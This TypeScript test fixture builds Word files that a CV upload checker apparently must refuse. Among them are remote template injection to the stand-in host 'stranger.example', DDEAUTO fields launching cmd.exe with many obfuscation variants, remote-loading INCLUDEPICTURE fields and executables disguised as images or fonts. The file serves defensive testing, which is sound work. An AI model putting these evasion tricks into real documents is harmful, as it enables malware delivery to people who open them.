import type { CvRefusal } from '#api/cv/cv-refusal.ts';
import {
  begin,
  contentTypes,
  each,
  end,
  external,
  field,
  instruction,
  markup,
  microsoft,
  office,
  related,
  relationsOf,
  separate,
  withChart,
  withLinkedChart,
  withPart,
  withParts,
  withText,
  wordParts,
  workbook,
} from './docx-files.ts';
import { falsified, zip } from './zip-files.ts';

/** Files by the reason for which they are refused. */
export type RefusedFiles = Readonly<Partial<Record<CvRefusal, Readonly<Record<string, Buffer>>>>>;

const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(300, 'program')]);
const web = 'https://stranger.example';
const picture = `INCLUDEPICTURE "${web}/a.png"`;
const main = '/word/document.xml';
const templateOf = (target: string) =>
  withParts(
    relationsOf('word/_rels/settings.xml.rels', [`${office}/attachedTemplate`, target, external]),
  );
const settings = (inner: string) =>
  withPart('settings', 'settings.xml', Buffer.from(markup(inner, { root: 'settings' })));
/** What a reader that knows `x` takes, and others do not. */
const choice = (inner: string) =>
  `<mc:AlternateContent><mc:Choice Requires="x">${inner}</mc:Choice></mc:AlternateContent>`;

/** Relations to what is embedded. */
const embedding = [
  ...['oleObject', 'package', 'control', 'aFChunk'].map((kind) => `${office}/${kind}`),
  'http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject',
  'http://schemas.microsoft.com/office/2007/relationships/media',
];
const strangeTemplates = [
  ...[
    `${web}/a.dotm`,
    '&#10;ht&#9;tps://stranger.example/a.dotm',
    '\\\\stranger.example\\share\\a.dotm',
  ],
  ...['file://stranger.example/share/a.dotm', 'file:///\\\\stranger\\share\\a.dotm'],
  ...['file:////stranger/share/a.dotm', 'file://localhost//stranger/a.dotm'],
  ...['%5C%5Cstranger%5Cshare%5Ca.dotm', '\\\\\\stranger\\share\\a.dotm'],
  'mhtml:file://C:/a.mht!x-usc:https://a.example/b',
];
/** Relations by which a document loads what they lead to. */
const loading = ['oleObject', 'image', 'frame', 'aFChunk', 'video', 'mailMergeSource'];
const loadingFields = [
  ...[picture, `INCLUDEPICTURE"${web}/a.png"`, ` includetext ${web}/a.docx `],
  ...[`INCLUDEPICTURE “${web}/a.png”`, 'INCLUDETEXT "\\\\\\\\stranger\\\\share\\\\a.docx"'],
  ...[`LINK Excel.Sheet.12 "${web}/a.xlsx" "" \\a`, 'DATABASE \\c "DSN=a" \\s "SELECT"'],
];

/** Word documents that are refused, by the reason. */
export const refusedDocxs: RefusedFiles = {
  macroFile: {
    'macros by their relation': related(`${microsoft}/vbaProject`, 'data.bin', ''),
    'macros by their type': withParts(
      contentTypes(
        [main, '.document.main+xml'],
        ['/word/a.xml', 'application/vnd.ms-office.vbaProject'],
      ),
    ),
    'macros by their name alone': withParts({ name: 'word/VbaProject.bin', bytes: ole }),
    'a text of two types': withParts(
      contentTypes(
        [main, 'application/vnd.ms-word.document.macroEnabled.main+xml'],
        [main, '.document.main+xml'],
      ),
    ),
    'a text whose type has macros': withParts(
      contentTypes([main, 'application/vnd.ms-word.document.macroEnabled.main+xml']),
    ),
    'macros in the workbook of a chart': withChart(
      workbook(undefined, undefined, 'sheet.macroEnabled.main+xml'),
    ),
  },
  embeddedFile: {
    ...each('a part related as', embedding, (type) => related(type, 'parts/a', '')),
    'an embedded object in a header': withParts(
      relationsOf('word/_rels/header1.xml.rels', [
        `${office}/oleObject`,
        'embeddings/oleObject1.bin',
      ]),
    ),
    'an object that is drawn': withText('<w:object><o:OLEObject Type="Link"/></w:object>'),
    'buttons of its own': withParts(
      relationsOf(
        '_rels/.rels',
        [`${office}/officeDocument`, 'word/document.xml'],
        [`${microsoft}/ui/extensibility`, 'customUI/customUI.xml'],
      ),
    ),
    'links to other books in the workbook of a chart': withChart(
      workbook(`${office}/externalLink`, 'externalLinks/externalLink1.xml'),
    ),
    'a connection in the workbook of a chart': withChart(
      workbook(`${office}/connections`, 'connections.xml'),
    ),
    'an old workbook in a chart': withChart(Buffer.concat([ole, Buffer.alloc(2000)])),
    'a program': withParts({ name: 'word/media/run.exe', bytes: program }),
    'a program called a picture': withParts({ name: 'word/media/image1.png', bytes: program }),
    'a program called a font': withParts({ name: 'word/fonts/font1.odttf', bytes: program }),
  },
  loadingFile: {
    ...each('the template', strangeTemplates, templateOf),
    ...each('a relation to the web:', loading, (kind) => related(`${office}/${kind}`, `${web}/a`)),
    ...each('the field', loadingFields, (text) => withText(field(text))),
    'a picture whose relation says that it is a link': withParts(
      relationsOf('word/_rels/document.xml.rels', [
        `${office}/hyperlink`,
        `${web}/a.png`,
        external,
      ]),
      { name: 'word/document.xml', bytes: Buffer.from(markup('<x:blip x:link="r0"/>')) },
    ),
    'a template that says it is internal': related(
      `${office}/attachedTemplate`,
      `${web}/a.dotm`,
      '',
    ),
    'a picture whose place is written in references': related(
      `${office}/image`,
      `${web}/a`,
      'TargetMode="Ext&#101;rnal"',
    ),
    'a part of a book on a share': related(`${office}/subDocument`, '\\\\stranger\\a.docx'),
    'a film in a page of its own': withText('<x:webVideoPr embeddedHtml="&lt;iframe&gt;"/>'),
    'a chart that loads its figures from a server': withLinkedChart('<c:autoUpdate val="1"/>'),
    'a chart that does so without a value': withLinkedChart('<c:autoUpdate/>'),
    'a pane of an add-in': withParts(
      relationsOf(
        '_rels/.rels',
        [`${office}/officeDocument`, 'word/document.xml'],
        [
          'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          'word/webextensions/taskpanes.xml',
        ],
      ),
    ),
    'letters from a server': settings(
      '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=stranger"/></w:mailMerge>',
    ),
    'a smart document': settings(`<x:schema x:manifestLocation="${web}/a.xml"/>`),
    'a drawing by its address': withText(`<v:imagedata src="${web}/a.png"/>`),
    'a drawing by its original address': withText(`<v:imagedata o:href="${web}/a.png"/>`),
    'a filling by its address': withText('<v:fill src="\\\\stranger\\a.png"/>'),
    'an address that another field builds': withText(
      `${begin}${instruction(' INCLUDEPICTURE ')}${field('QUOTE 104 116 116 112')}${end}`,
    ),
    'a field behind a page number': withText(field('PAGE') + field(picture)),
    'a field in a field': withText(
      `${begin}${instruction('IF 1 = 1 ')}${field(picture)}${instruction(' ""')}${end}`,
    ),
    'a field in the result of another': withText(field('TOC \\o', field(picture))),
    'a field behind one that never ends': withText(begin + instruction('PAGE') + field(picture)),
    'a field that never ends': withText(begin + instruction(picture)),
    'a simple field': withText(`<w:fldSimple w:instr="INCLUDETEXT ${web}/a.docx"/>`),
    'a field in a header of another name': withPart(
      'header',
      'head.bin',
      Buffer.from(markup(field(picture), { root: 'hdr' })),
    ),
    'a field in a footnote in UTF-16': withPart(
      'footnotes',
      'footnotes.xml',
      Buffer.from(`\ufeff${markup(field(picture), { root: 'footnotes' })}`, 'utf16le'),
    ),
    'a field in a text of another name': withParts(
      contentTypes(['/word/document2.xml', '.document.main+xml']),
      relationsOf('_rels/.rels', [`${office}/officeDocument`, '/word/document2.xml']),
      { name: 'word/document2.xml', bytes: Buffer.from(markup(field(picture))) },
    ),
  },
  startingFile: {
    'a field that starts a program': withText(field('DDEAUTO c:\\\\cmd.exe "/k calc"')),
    'a field in small letters': withText(field(' dde "cmd" a')),
    'a field behind a page number': withText(field('PAGE') + field('DDEAUTO cmd a')),
    'a field over many runs': withText(
      `${begin}${['DD', 'EAU', 'TO cmd a'].map((one) => instruction(one)).join('')}${end}`,
    ),
    'a field in a CDATA section': withText(field('<![CDATA[DDEAUTO cmd a]]>')),
    'a field in references': withText(field('&#68;D&#x45;AUTO cmd a')),
    'a simple field': withText('<w:fldSimple w:instr="dde cmd a"/>'),
    'a keyword that another field writes': withText(
      `${begin}${field('QUOTE 68 68 69', instruction('PAGE'))}${instruction(' cmd a')}${end}`,
    ),
    'a keyword behind a deleted one': withText(
      `${begin}${instruction('PAGE', 'w:delInstrText')}${instruction('DDEAUTO cmd a')}${end}`,
    ),
    'a keyword with a deleted letter in it': withText(
      begin +
        instruction('DD') +
        instruction('x', 'w:delInstrText') +
        instruction('EAUTO cmd a') +
        end,
    ),
    'a deleted field': withText(`${begin}${instruction('DDE cmd a', 'w:delInstrText')}${end}`),
    'a field in alternate content': withText(choice(field('DDE cmd a'))),
    'a keyword where another reader sees a result': withText(
      `${begin}${instruction('PAGE')}${separate}${instruction('DDEAUTO cmd a')}${end}`,
    ),
    'a field by another prefix': withText(field('DDE cmd a').replaceAll('w:', 'word:'), {
      more: 'xmlns:word="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
    }),
    'a field in the strict namespace': withParts({
      name: 'word/document.xml',
      bytes: Buffer.from(
        markup(field('DDE cmd a')).replace(
          'schemas.openxmlformats.org/wordprocessingml/2006',
          'purl.oclc.org/ooxml/wordprocessingml',
        ),
      ),
    }),
  },
  pdfOnly: {
    'the type of another program': withParts(
      contentTypes([main, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']),
    ),
    'a text that nothing names': withParts(relationsOf('_rels/.rels')),
  },
  unreadableFile: {
    'an instruction that only some readers see': withText(
      `${begin}${instruction('DD')}${choice(instruction('x'))}${instruction('EAUTO a')}${end}`,
    ),
    'a prefix with two meanings': withText(
      `<x:a xmlns:w="urn:x">${instruction('PAGE')}</x:a>${field('PAGE')}`,
    ),
    'a relation whose type another namespace denies': related(
      `${office}/attachedTemplate`,
      `${web}/a.dotm`,
      `${external} xmlns:x="urn:x" x:Type="${office}/hyperlink"`,
    ),
    'a relation whose place another namespace denies': related(
      `${office}/image`,
      `${web}/a.png`,
      `${external} xmlns:x="urn:x" x:TargetMode="Internal"`,
    ),
    'a declared entity': withText('<w:r/>', { head: '<!DOCTYPE a [<!ENTITY b "c">]>' }),
    'a text in another encoding': withText('<w:r/>', {
      head: '<?xml version="1.0" encoding="utf-7"?>',
    }),
    'broken markup': withText('<w:r>'),
    'a linked chart that is no markup': withLinkedChart('<'),
    'a header that is no markup, behind a name that is not found': withParts(
      relationsOf('word/_rels/document.xml.rels', [`${office}/header`, 'head~%31.xml']),
      { name: 'word/header1.xml', bytes: Buffer.from('<!DOCTYPE a><w:hdr/>') },
    ),
    'a text that is longer than it says': falsified(withText('b'.repeat(500)), 'both', {
      unpacked: 20,
    }),
    'more markup than a person writes': withPart(
      'header',
      'header1.xml',
      Buffer.from(
        `<a>${Array.from({ length: 900_000 }, (_, n) => `${n} `).join('')}${'çğş'.repeat(600_000)}</a>`,
      ),
    ),
    'an archive that was cut': zip(wordParts).subarray(0, -30),
  },
};
